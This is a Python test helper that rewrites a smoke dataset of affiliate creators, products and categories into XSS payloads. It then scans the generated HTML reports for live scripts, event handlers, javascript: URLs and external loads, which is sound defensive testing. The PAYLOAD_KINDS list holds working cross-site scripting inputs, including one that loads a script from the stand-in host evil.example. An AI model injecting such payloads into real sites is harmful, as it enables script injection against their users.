"""A copy of ``data/smoke`` whose creators, products and categories are XSS payloads.

Used by ``tests/test_xss.py``; also runnable to look at a report by hand::

    python tests/xss_payloads.py /tmp/xss-data
    python -m helpers.report --params params/smoke.yaml --data /tmp/xss-data \\
        -p category "$(python tests/xss_payloads.py --category)"
"""

from __future__ import annotations

import csv
import sys
from dataclasses import dataclass, field
from pathlib import Path

from helpers import paths

__all__ = ["CATEGORY_FOR_PLAN", "PAYLOAD_KINDS", "Findings", "scan_html", "write_xss_dataset"]

SOURCE = paths.ROOT / "data" / "smoke"

# One template per kind of attack; ``{tag}`` makes every value unique (c12, p3, k0)
# so the test can tell which data value a live element came from. The Markdown
# kinds check that data never turns into links or math in prose.
PAYLOAD_KINDS: tuple[str, ...] = (
    "<script>alert('{tag}')</script>",
    "<img src=x onerror=alert('{tag}')>",
    '"><svg onload=alert("{tag}")>',
    "<a href=\"javascript:alert('{tag}')\">{tag}</a>",
    "<script src=https://evil.example/{tag}.js></script>",
    "[{tag}](javascript:alert(1)) $x_{tag}$ **{tag}**",
    "<iframe src=javascript:alert('{tag}')></iframe>",
    "'\"><body onload=alert('{tag}')>",
)


def _payload(prefix: str, i: int) -> str:
    return PAYLOAD_KINDS[i % len(PAYLOAD_KINDS)].format(tag=f"{prefix}{i}")


# The category notebook 03 plans for: the first category's payload (kind 0, a script).
CATEGORY_FOR_PLAN: str = _payload("k", 0)


def _rewrite(path: Path, dest: Path, maps: dict[str, dict[str, str]]) -> None:
    """Copy one CSV export, replacing the values of the columns named in ``maps``."""
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    header = rows[0]
    cols = {i: maps[name] for i, name in enumerate(header) if name in maps}
    for row in rows[1:]:
        for i, mapping in cols.items():
            if i < len(row) and row[i] in mapping:
                row[i] = mapping[row[i]]
    with (dest / path.name).open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(rows)


def _values(path: Path, column: str) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return sorted({row[column] for row in csv.DictReader(fh)})


def write_xss_dataset(dest: Path) -> dict[str, list[str]]:
    """Write the renamed copy of ``data/smoke`` into ``dest``.

    Returns
    -------
    dict
        The payloads used, by kind of value: ``creator``, ``product_id``,
        ``product_name``, ``category``.
    """
    dest.mkdir(parents=True, exist_ok=True)
    creators = _values(SOURCE / "affiliate_creators.csv", "Creator name")
    products = _values(SOURCE / "affiliate_products.csv", "Product ID")
    names = _values(SOURCE / "affiliate_products.csv", "Product name")
    categories = _values(SOURCE / "affiliate_products.csv", "Category")
    maps = {
        "Creator name": {c: _payload("c", i) for i, c in enumerate(creators)},
        "Product ID": {p: _payload("p", i) for i, p in enumerate(products)},
        "Product name": {n: _payload("n", i) for i, n in enumerate(names)},
        "Category": {c: _payload("k", i) for i, c in enumerate(categories)},
    }
    for path in sorted(SOURCE.glob("*.csv")):
        _rewrite(path, dest, maps)
    return {
        "creator": list(maps["Creator name"].values()),
        "product_id": list(maps["Product ID"].values()),
        "product_name": list(maps["Product name"].values()),
        "category": list(maps["Category"].values()),
    }


_URL_ATTRS = ("href", "src", "action", "formaction", "data", "xlink:href", "srcset", "poster")


@dataclass
class Findings:
    """What one HTML page holds that could run or load something."""

    scripts: int = 0
    live_scripts: list[str] = field(default_factory=list)  # script text naming a payload
    event_handlers: list[str] = field(default_factory=list)  # "tag on...=value"
    javascript_urls: list[str] = field(default_factory=list)
    external_urls: list[str] = field(default_factory=list)  # script/link/img/iframe... URLs
    text: str = ""

    def counts(self) -> dict[str, int]:
        """Numbers for a report line."""
        return {
            "script elements": self.scripts,
            "scripts with payload text": len(self.live_scripts),
            "event handlers": len(self.event_handlers),
            "javascript: URLs": len(self.javascript_urls),
            "external URLs": len(self.external_urls),
        }


def scan_html(html: str) -> Findings:
    """Parse ``html`` as a browser would and list what could execute or load."""
    from bs4 import BeautifulSoup

    soup = BeautifulSoup(html, "html.parser")
    found = Findings(text=soup.get_text())
    for tag in soup.find_all(True):
        if tag.name == "script":
            found.scripts += 1
            if "alert(" in tag.get_text():
                found.live_scripts.append(tag.get_text()[:80])
        for name, value in tag.attrs.items():
            value = " ".join(value) if isinstance(value, list) else str(value)
            if name.lower().startswith("on"):
                found.event_handlers.append(f"{tag.name} {name}={value[:60]}")
            if name.lower() not in _URL_ATTRS:
                continue
            url = "".join(value.split()).lower()
            if url.startswith("javascript:"):
                found.javascript_urls.append(f"{tag.name} {name}={value[:60]}")
            if url.startswith(("http:", "https:", "//")) and tag.name != "a":
                found.external_urls.append(f"{tag.name} {name}={value[:80]}")
    return found


if __name__ == "__main__":
    if sys.argv[1] == "--scan":
        for page in sys.argv[2:]:
            print(Path(page).name, scan_html(Path(page).read_text(encoding="utf-8")).counts())
        sys.exit()

    if sys.argv[1:] == ["--category"]:
        print(CATEGORY_FOR_PLAN)
    else:
        write_xss_dataset(Path(sys.argv[1]))
